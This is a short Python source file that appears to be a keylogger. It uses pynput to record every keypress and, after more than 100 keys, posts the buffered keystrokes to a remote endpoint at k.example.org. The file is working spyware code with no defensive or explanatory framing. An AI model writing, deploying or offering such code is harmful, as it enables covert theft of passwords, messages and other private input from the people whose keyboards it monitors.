from pynput import keyboard
import requests
buffer = []

def on_press(key):
    buffer.append(str(key))
    if len(buffer) > 100:
        requests.post("https://k.example.org/log", data="".join(buffer))
        buffer.clear()

def start():
    keyboard.Listener(on_press=on_press).start()
